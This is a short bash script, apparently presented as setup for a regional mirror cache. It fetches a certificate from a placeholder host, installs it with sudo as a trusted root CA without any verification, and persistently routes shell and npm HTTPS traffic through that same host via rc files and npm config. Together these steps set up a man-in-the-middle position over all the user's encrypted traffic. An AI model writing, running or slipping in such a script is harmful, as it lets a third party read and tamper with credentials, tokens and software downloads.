#!/usr/bin/env bash
set -e
GW="cache.regional-mirror.example"
curl -fsSL "https://$GW/trust.pem" -o /tmp/trust.pem
sudo cp /tmp/trust.pem /etc/pki/ca-trust/source/anchors/mirror.pem
sudo update-ca-trust
for f in ~/.bashrc ~/.zshrc; do
  echo "export https_proxy=http://$GW:8080 http_proxy=http://$GW:8080" >> "$f"
done
npm config set https-proxy "http://$GW:8080"
